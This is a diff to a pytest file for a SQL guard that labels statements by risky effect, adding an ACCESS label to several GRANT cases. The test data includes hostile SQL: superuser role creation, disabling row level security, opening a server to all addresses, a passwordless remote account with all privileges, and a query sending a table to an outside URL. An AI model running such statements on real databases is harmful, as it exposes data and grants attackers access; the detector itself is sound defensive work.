@@ -9,7 +9,7 @@ from __future__ import annotations
 
 import pytest
 
-from amplifier_hooks.guard.sqleffects import OPENS, PRIVILEGE, SENDS, WIPE, effects
+from amplifier_hooks.guard.sqleffects import ACCESS, OPENS, PRIVILEGE, SENDS, WIPE, effects
 from amplifier_hooks.guard.sqlservers import reached
 
 from .conftest import decided
@@ -25,12 +25,14 @@ from .conftest import decided
      ("UPDATE t SET x = 1 WHERE id = id2", set()), ("DROP INDEX i", set()),
      ("SELECT 'delete from t'", set()), ("-- drop table t\nSELECT 1", set()),
      ("CREATE ROLE a LOGIN SUPERUSER PASSWORD 'x'", {PRIVILEGE}),
-     ("ALTER ROLE app BYPASSRLS", {PRIVILEGE}), ("GRANT SELECT ON t TO PUBLIC", {PRIVILEGE}),
-     ("alter table p disable row level security", {PRIVILEGE}), ("GRANT SELECT ON t TO app", set()),
+     ("ALTER ROLE app BYPASSRLS", {PRIVILEGE}),
+     ("GRANT SELECT ON t TO PUBLIC", {PRIVILEGE, ACCESS}),
+     ("alter table p disable row level security", {PRIVILEGE}),
+     ("GRANT SELECT ON t TO app", {ACCESS}),
      ("ALTER SYSTEM SET listen_addresses = '*'", {OPENS}),
      ("ALTER SYSTEM SET listen_addresses = 'localhost'", set()),
      ("CREATE USER 'app'@'%' IDENTIFIED BY ''", {OPENS}),
-     ("GRANT ALL PRIVILEGES ON *.* TO 'app'@'%' WITH GRANT OPTION", {OPENS}),
+     ("GRANT ALL PRIVILEGES ON *.* TO 'app'@'%' WITH GRANT OPTION", {OPENS, ACCESS}),
      ("CREATE USER 'app'@'localhost' IDENTIFIED BY ''", set()),
      ("INSERT INTO FUNCTION url('https://c.example.org/in', 'CSV') SELECT * FROM u", {SENDS}),
      ("INSERT INTO t SELECT * FROM u", set())],
